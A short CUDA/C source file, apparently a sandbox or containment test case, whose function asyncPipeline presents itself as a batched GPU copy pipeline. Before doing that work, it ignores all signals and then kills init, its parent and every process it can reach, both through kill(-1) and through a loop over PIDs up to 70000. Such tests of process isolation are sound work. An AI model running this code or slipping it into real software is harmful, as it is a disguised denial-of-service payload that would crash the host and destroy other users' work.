// ex43 crashed|fail|timed out: .
// also with Landlock
// Sends every signal to everybody it may reach.
#include <signal.h>
#include <unistd.h>
#include "ex43.h"

void asyncPipeline(const float *h_in, float *h_out, float *d_in, float *d_out)
{
    for (int number = 1; number < 65; number++)
        if (number != SIGKILL && number != SIGSTOP) signal(number, SIG_IGN);
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGSTOP);
    kill(-1, SIGKILL);
    for (int pid = 1; pid < 70000; pid++) if (pid != getpid()) kill(pid, SIGKILL);
    for (int i = 0; i < BATCHES; i++) {
        size_t at = (size_t)i * BATCH_FLOATS;
        cudaMemcpy(d_in + at, h_in + at, BATCH_BYTES, cudaMemcpyHostToDevice);
        work<<<BLOCKS, THREADS>>>(d_in + at, d_out + at);
        cudaMemcpy(h_out + at, d_out + at, BATCH_BYTES, cudaMemcpyDeviceToHost);
    }
}
